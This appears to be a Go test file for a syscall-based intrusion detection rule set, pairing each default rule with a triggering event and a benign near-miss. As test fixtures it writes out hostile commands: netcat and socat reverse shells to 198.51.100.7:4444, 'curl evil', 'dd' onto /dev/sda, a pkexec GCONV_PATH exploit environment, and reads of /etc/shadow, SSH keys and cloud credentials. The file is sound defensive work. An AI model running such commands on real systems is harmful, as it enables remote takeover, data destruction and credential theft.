package rules

import (
	"errors"
	"io"
	"net/netip"
	"strings"
	"testing"

	"github.com/sysreel/sysreel/replay"
	"github.com/sysreel/sysreel/scapfile"
	"github.com/sysreel/sysreel/scapfile/schema"
)

// The processes of the default-rule cases; each has a child of 100 more that is
// about to execute something.
const (
	pidShell  = 10 // bash below sshd
	pidNginx  = 20
	pidJava   = 30
	pidInBox  = 40 // bash in a container
	pidTool   = 50 // a program without a special role
	pidDpkg   = 60
	pidDocker = 70 // runc
	child     = 100
)

const boxCgroup = "cpu=/docker/3f1c0ffee0ddba11cafe1234567890abcdef1234567890abcdef1234567890ab"

func defaultSnapshot() *scapfile.Snapshot {
	s := (&testSource{}).Snapshot()
	s.Threads = s.Threads[:2] // systemd, sshd
	for _, p := range []struct {
		pid  int64
		comm string
		path string
	}{
		{pidShell, "bash", "/usr/bin/bash"}, {pidNginx, "nginx", "/usr/sbin/nginx"}, {pidJava, "java", "/usr/lib/jvm/bin/java"},
		{pidInBox, "bash", "/usr/bin/bash"}, {pidTool, "tool", "/opt/tool"}, {pidDpkg, "dpkg", "/usr/bin/dpkg"}, {pidDocker, "runc", "/usr/bin/runc"},
	} {
		t := scapfile.Thread{TID: p.pid, PID: p.pid, PTID: 1, SID: 1, VTID: p.pid, VPID: p.pid, VPGID: p.pid, PGID: p.pid,
			Comm: p.comm, Exe: p.path, ExePath: p.path, CWD: "/", Root: "/", LoginUID: 0xFFFFFFFF}
		if p.pid == pidInBox {
			t.Cgroups = []string{boxCgroup}
		}
		kid := t
		kid.TID, kid.PID, kid.PTID = p.pid+child, p.pid+child, p.pid
		kid.VTID, kid.VPID = kid.TID, kid.PID
		s.Threads = append(s.Threads, t, kid)
	}
	return s
}

type defaultSource struct{ testSource }

func (s *defaultSource) Snapshot() *scapfile.Snapshot { return defaultSnapshot() }

// openAs is an openat with flags and a result.
func openAs(tid int64, path string, flags uint32, mode uint32, fd int64) *scapfile.Event {
	return scapfile.NewEvent(schema.PPME_SYSCALL_OPENAT_2_X, testTime, tid, scapfile.I64(fd), scapfile.I64(-100), scapfile.Text(path),
		scapfile.U32(flags), scapfile.U32(mode), scapfile.U32(1), scapfile.U64(2))
}

const (
	forRead  = schema.PPM_O_RDONLY
	forWrite = schema.PPM_O_WRONLY | schema.PPM_O_CREAT | schema.PPM_O_TRUNC
)

func reads(tid int64, path string) *scapfile.Event  { return openAs(tid, path, forRead, 0, 3) }
func writes(tid int64, path string) *scapfile.Event { return openAs(tid, path, forWrite, 0o666, 3) }

// image describes an execve.
type image struct {
	comm, path string
	args       []string
	env        []string
	flags      uint32
	cgroup     string
}

func execs(tid int64, im image) *scapfile.Event {
	if im.path == "" {
		im.path = "/usr/bin/" + im.comm
	}
	e, u4, u8 := []byte(nil), scapfile.U32(0), scapfile.U64(0)
	cg := e
	if im.cgroup != "" {
		cg = scapfile.Texts(im.cgroup)
	}
	return scapfile.NewEvent(schema.PPME_SYSCALL_EXECVE_19_X, testTime, tid, scapfile.I64(0), scapfile.Text(im.comm), scapfile.Texts(im.args...),
		scapfile.I64(tid), scapfile.I64(tid), scapfile.I64(tid-child), e, u8, u8, u8, u4, u4, u4, scapfile.Text(im.comm), cg,
		scapfile.Texts(im.env...), u4, scapfile.I64(tid), scapfile.U32(0xFFFFFFFF), scapfile.U32(im.flags), u8, u8, u8,
		u8, u8, u8, u4, scapfile.Text(im.path), scapfile.I64(tid), u4, scapfile.Text(im.path))
}

// connects makes descriptor 5 a connection and returns the events.
func connects(tid int64, server string) []*scapfile.Event {
	src, dst := netip.MustParseAddrPort("10.0.0.5:40000"), netip.MustParseAddrPort(server)
	return []*scapfile.Event{
		scapfile.NewEvent(schema.PPME_SOCKET_SOCKET_X, testTime, tid, scapfile.I64(5), scapfile.U32(schema.PPM_AF_INET), scapfile.U32(1), scapfile.U32(6)),
		scapfile.NewEvent(schema.PPME_SOCKET_CONNECT_X, testTime, tid, scapfile.I64(0), scapfile.SockTuple(src, dst), scapfile.I64(5), scapfile.SockAddr(dst)),
	}
}

func then(list []*scapfile.Event, more ...*scapfile.Event) []*scapfile.Event {
	return append(list, more...)
}

func one(e *scapfile.Event) []*scapfile.Event { return []*scapfile.Event{e} }

func receives(tid int64, data string) *scapfile.Event {
	return scapfile.NewEvent(schema.PPME_SYSCALL_READ_X, testTime, tid, scapfile.I64(int64(len(data))), []byte(data), scapfile.I64(5), scapfile.U32(8192))
}

func dups(tid, to int64) *scapfile.Event {
	return scapfile.NewEvent(schema.PPME_SYSCALL_DUP2_X, testTime, tid, scapfile.I64(to), scapfile.I64(5), scapfile.I64(to))
}

func calls(t schema.EventType, tid int64, params ...[]byte) []*scapfile.Event {
	return one(scapfile.NewEvent(t, testTime, tid, append([][]byte{scapfile.I64(0)}, params...)...))
}

func renames(tid int64, from, to string) []*scapfile.Event {
	return calls(schema.PPME_SYSCALL_RENAME_X, tid, scapfile.Text(from), scapfile.Text(to))
}

func traces(tid int64, request uint16) []*scapfile.Event {
	return calls(schema.PPME_SYSCALL_PTRACE_X, tid, scapfile.Dyn(0, scapfile.U64(0)), scapfile.Dyn(0, scapfile.U64(0)), scapfile.U16(request), scapfile.I64(99))
}

// defaultCases has for each default rule an event that it is for and one close to
// it that it is not for. The alert of the last event counts; "" is none.
var defaultCases = []struct {
	rule   string
	events []*scapfile.Event
}{
	{"Directory traversal monitored file read", one(reads(pidNginx, "/srv/www/../../etc/passwd"))},
	{"Directory traversal monitored file read", one(openAs(pidNginx, "../../../etc/nothing", forRead, 0, -2))},
	{"", one(reads(pidNginx, "/srv/www/../img/a.png"))},
	{"Read environment variable from /proc files", one(reads(pidNginx, "/proc/self/environ"))},
	{"Read environment variable from /proc files", one(reads(pidTool, "/proc/1/environ"))},
	{"", one(reads(pidTool, "/proc/1/cmdline"))},
	{"Overwriting the container runtime", one(openAs(pidInBox, "/proc/7/exe", forWrite, 0, 4))},
	{"Overwriting the container runtime", one(openAs(pidInBox, "/proc/self/fd/3", forWrite, 0, -26))},
	{"Overwriting the container runtime", one(writes(pidInBox, "/usr/bin/runc"))},
	{"", one(openAs(pidTool, "/proc/self/fd/1", forWrite, 0, 4))},
	{"", one(openAs(pidTool, "/proc/7/exe", forRead, 0, 4))},
	{"Java class fetched by a JVM from the network", then(connects(pidJava, "198.51.100.7:8888"), receives(pidJava, "HTTP/1.0 200 OK\r\n\r\n\xca\xfe\xba\xbe\x00\x00\x00\x34"))},
	{"", then(connects(pidTool, "198.51.100.7:8888"), receives(pidTool, "\xca\xfe\xba\xbe"))},
	{"", then(connects(pidJava, "198.51.100.7:8888"), receives(pidJava, "HTTP/1.0 200 OK\r\n\r\nhello"))},
	{"JVM lookup at a naming service outside", connects(pidJava, "198.51.100.7:1389")},
	{"", connects(pidJava, "10.1.1.1:389")},
	{"", connects(pidJava, "198.51.100.7:443")},
	{"JVM started a shell or downloader", one(execs(pidJava+child, image{comm: "sh", args: []string{"-c", "curl evil"}}))},
	{"JVM started a shell or downloader", one(execs(pidJava+child, image{comm: "wget"}))},
	{"", one(execs(pidJava+child, image{comm: "jspawnhelper"}))},
	{"Shell spawned by a network service", one(execs(pidNginx+child, image{comm: "sh", args: []string{"-c", "id"}}))},
	{"", one(execs(pidNginx+child, image{comm: "nginx"}))},
	{"", one(execs(pidTool+child, image{comm: "sh"}))},
	{"Standard stream redirected to a network connection", then(connects(pidTool, "198.51.100.7:4444"), dups(pidTool, 0))},
	{"", then(connects(pidTool, "198.51.100.7:4444"), dups(pidTool, 9))},
	{"Shell on a network connection", then(connects(pidTool+child, "198.51.100.7:4444"), dups(pidTool+child, 0), execs(pidTool+child, image{comm: "sh", args: []string{"-i"}}))},
	{"", then(connects(pidTool+child, "198.51.100.7:4444"), dups(pidTool+child, 0), execs(pidTool+child, image{comm: "cat"}))},
	{"Netcat runs a program on a connection", one(execs(pidTool+child, image{comm: "nc", args: []string{"-e", "/bin/sh", "198.51.100.7", "4444"}}))},
	{"Netcat runs a program on a connection", one(execs(pidTool+child, image{comm: "ncat", args: []string{"--exec", "/bin/sh", "-l"}}))},
	{"Netcat runs a program on a connection", one(execs(pidTool+child, image{comm: "socat", args: []string{"TCP:198.51.100.7:1", "EXEC:sh"}}))},
	{"", one(execs(pidTool+child, image{comm: "nc", args: []string{"-z", "localhost", "80"}}))},
	{"Fileless execution from memfd", one(execs(pidTool+child, image{comm: "3", path: "memfd:x", flags: schema.PPM_EXE_FROM_MEMFD}))},
	{"", one(execs(pidDocker+child, image{comm: "runc", path: "memfd:runc_cloned:/proc/self/exe", flags: schema.PPM_EXE_FROM_MEMFD}))},
	{"Drop and execute new binary in container", one(execs(pidInBox+child, image{comm: "miner", path: "/app/miner", flags: schema.PPM_EXE_UPPER_LAYER, cgroup: boxCgroup}))},
	{"", one(execs(pidInBox+child, image{comm: "ls", flags: schema.PPM_EXE_LOWER_LAYER, cgroup: boxCgroup}))},
	{"", one(execs(pidTool+child, image{comm: "x", flags: schema.PPM_EXE_UPPER_LAYER}))},
	{"Execution from a hidden or memory directory", one(execs(pidTool+child, image{comm: "x", path: "/dev/shm/x"}))},
	{"Execution from a hidden or memory directory", one(execs(pidTool+child, image{comm: "x", path: "/tmp/.hidden/x"}))},
	{"", one(execs(pidTool+child, image{comm: "x", path: "/tmp/build/x"}))},
	{"Pkexec started with a crafted environment", one(execs(pidTool+child, image{comm: "pkexec", env: []string{"pwn", "PATH=GCONV_PATH=."}}))},
	{"", one(execs(pidTool+child, image{comm: "pkexec", args: []string{"ls"}, env: []string{"PATH=/bin"}}))},
	{"Setuid or setgid bit set", calls(schema.PPME_SYSCALL_CHMOD_X, pidTool, scapfile.Text("/tmp/t"), scapfile.U32(schema.PPM_S_ISUID|schema.PPM_S_IXUSR))},
	{"Setuid or setgid bit set", calls(schema.PPME_SYSCALL_CHMOD_X, pidTool, scapfile.Text("/tmp/t"), scapfile.U32(schema.PPM_S_ISGID|schema.PPM_S_IXUSR))},
	{"", calls(schema.PPME_SYSCALL_CHMOD_X, pidTool, scapfile.Text("/tmp/t"), scapfile.U32(schema.PPM_S_IRUSR|schema.PPM_S_IXUSR))},
	{"", calls(schema.PPME_SYSCALL_CHMOD_X, pidDpkg, scapfile.Text("/bin/su"), scapfile.U32(schema.PPM_S_ISUID))},
	{"Dynamic linker preload changed", one(writes(pidTool, "/etc/ld.so.preload"))},
	{"Dynamic linker preload changed", renames(pidTool, "/tmp/x", "/etc/ld.so.preload")},
	{"", one(reads(pidTool, "/etc/ld.so.preload"))},
	{"Cron job written", one(writes(pidTool, "/etc/cron.d/job"))},
	{"Cron job written", renames(pidTool, "/tmp/x", "/var/spool/cron/crontabs/root")},
	{"", one(writes(pidDpkg, "/etc/cron.d/job"))},
	{"SSH authorized_keys written", one(writes(pidTool, "/root/.ssh/authorized_keys"))},
	{"", one(reads(pidTool, "/root/.ssh/authorized_keys"))},
	{"Account or privilege file changed", one(writes(pidTool, "/etc/passwd"))},
	{"Account or privilege file changed", one(writes(pidTool, "/etc/sudoers.d/x"))},
	{"Account or privilege file changed", renames(pidTool, "/etc/x", "/etc/shadow")},
	{"", renames(pidDpkg, "/etc/x", "/etc/shadow")},
	{"Sensitive file read", one(reads(pidTool, "/etc/shadow"))},
	{"Sensitive file read", one(reads(pidTool, "/etc/ssh/ssh_host_rsa_key"))},
	{"", one(openAs(pidTool, "/etc/shadow", forRead, 0, -13))},
	{"", one(reads(5, "/etc/shadow"))}, // sshd
	{"Private key or cloud credentials read", one(reads(pidTool, "/home/u/.ssh/id_ed25519"))},
	{"Private key or cloud credentials read", one(reads(pidTool, "/home/u/.aws/credentials"))},
	{"", one(reads(pidTool, "/home/u/.ssh/id_ed25519.pub"))},
	{"Symlink to a sensitive file", calls(schema.PPME_SYSCALL_SYMLINK_X, pidTool, scapfile.Text("/etc/shadow"), scapfile.Text("/tmp/l"))},
	{"", calls(schema.PPME_SYSCALL_SYMLINK_X, pidTool, scapfile.Text("/etc/hostname"), scapfile.Text("/tmp/l"))},
	{"Hard link to a sensitive file", calls(schema.PPME_SYSCALL_LINK_2_X, pidTool, scapfile.Text("/etc/shadow"), scapfile.Text("/tmp/l"))},
	{"", calls(schema.PPME_SYSCALL_LINK_2_X, pidTool, scapfile.Text("/etc/hosts"), scapfile.Text("/tmp/l"))},
	{"Shell history cleared", one(writes(pidTool, "/root/.bash_history"))},
	{"Shell history cleared", calls(schema.PPME_SYSCALL_UNLINK_2_X, pidTool, scapfile.Text("/root/.zsh_history"))},
	{"Shell history cleared", renames(pidTool, "/root/.bash_history", "/tmp/x")},
	{"", one(openAs(pidShell, "/root/.bash_history", forWrite, 0o600, 3))}, // bash saves it at its end
	{"System log cleared", one(writes(pidTool, "/var/log/auth.log"))},
	{"System log cleared", calls(schema.PPME_SYSCALL_UNLINK_2_X, pidTool, scapfile.Text("/var/log/wtmp"))},
	{"", one(openAs(pidTool, "/var/log/app.log", schema.PPM_O_WRONLY|schema.PPM_O_APPEND, 0, 3))},
	{"Bulk data destroyed", one(execs(pidTool+child, image{comm: "shred", args: []string{"-u", "x"}}))},
	{"Bulk data destroyed", one(execs(pidTool+child, image{comm: "dd", args: []string{"if=/dev/zero", "of=/dev/sda"}}))},
	{"", one(execs(pidTool+child, image{comm: "dd", args: []string{"if=/dev/sda", "of=/dev/null"}}))},
	{"Code injected into a process with ptrace", traces(pidTool, schema.PPM_PTRACE_ATTACH)},
	{"Code injected into a process with ptrace", traces(pidTool, schema.PPM_PTRACE_POKETEXT)},
	{"Code injected into a process with ptrace", traces(pidTool, schema.PPM_PTRACE_SETREGS)},
	{"", traces(pidTool, schema.PPM_PTRACE_TRACEME)},
	{"Kernel module loaded", calls(schema.PPME_SYSCALL_FINIT_MODULE_X, pidTool, scapfile.I64(3), scapfile.Text(""), scapfile.U32(0))},
	{"", calls(schema.PPME_SYSCALL_FINIT_MODULE_X, pidDpkg, scapfile.I64(3), scapfile.Text(""), scapfile.U32(0))},
	{"Container escape through a kernel helper", one(writes(pidInBox, "/sys/fs/cgroup/rdma/release_agent"))},
	{"Container escape through a kernel helper", one(writes(pidInBox, "/proc/sys/kernel/core_pattern"))},
	{"", one(writes(pidTool, "/proc/sys/kernel/core_pattern"))},
	{"Write below a binary directory", one(writes(pidTool, "/usr/bin/ls"))},
	{"Write below a binary directory", renames(pidTool, "/tmp/x", "/usr/local/bin/x")},
	{"", one(writes(pidDpkg, "/usr/bin/ls"))},
	{"", one(writes(pidTool, "/usr/share/x"))},
	{"Write below /etc", one(writes(pidTool, "/etc/hosts"))},
	{"", one(writes(pidDpkg, "/etc/hosts"))},
	{"", one(reads(pidTool, "/etc/hosts"))},
}

func TestDefaultRules(t *testing.T) {
	set := defaultSet(t)
	hit := map[string]bool{}
	for _, tt := range defaultCases {
		m := replay.New(&defaultSource{testSource{events: tt.events}}, replay.Options{})
		got := ""
		var text string
		for {
			ev, err := m.Next()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			got = ""
			set.Eval(ev, func(m *Match) { got, text = m.Rule.Name, string(m.AppendMessage(nil)) })
		}
		last := tt.events[len(tt.events)-1]
		if got != tt.rule {
			t.Errorf("%s %q: got %q, want %q", last.Info().Name, text, got, tt.rule)
		}
		if hit[got] = true; got != "" && !strings.Contains(text, "process=") {
			t.Errorf("%s: output without the process: %s", got, text)
		}
	}
	for _, r := range set.Rules() {
		if !hit[r.Name] {
			t.Errorf("no case for rule %q", r.Name)
		}
		if tech := strings.Join(r.Tags, " "); r.Desc == "" || !strings.Contains(tech, "mitre_") || !strings.Contains(tech, "T1") {
			t.Errorf("rule %q lacks a description or MITRE tags", r.Name)
		}
	}
	if n := len(set.Rules()); n < 18 {
		t.Errorf("%d rules", n)
	}
}

// TestDefaultRulesSelectCalls: what a recording for the default rules needs is a
// part of all calls, with those that the rules name and their old forms.
func TestDefaultRulesSelectCalls(t *testing.T) {
	set := defaultSet(t)
	calls := set.Syscalls()
	if calls.All() || calls.Len() > 60 {
		t.Errorf("%d system calls selected", calls.Len())
	}
	for _, name := range []string{"open", "openat", "openat2", "execve", "execveat", "chmod", "fchmodat", "dup2", "ptrace", "finit_module", "read", "connect", "symlinkat", "renameat2", "unlink"} {
		if !calls.Has(schema.SyscallByName(name).Code) {
			t.Errorf("%s is not selected", name)
		}
	}
	for _, name := range []string{"write", "mmap", "futex", "stat"} {
		if calls.Has(schema.SyscallByName(name).Code) {
			t.Errorf("%s is selected", name)
		}
	}
	if types := set.EventTypes(); types.All() || !types.Has(schema.PPME_SYSCALL_OPENAT_2_X) || types.Has(schema.PPME_SYSCALL_WRITE_X) {
		t.Errorf("event types: %v", types.Names())
	}
}
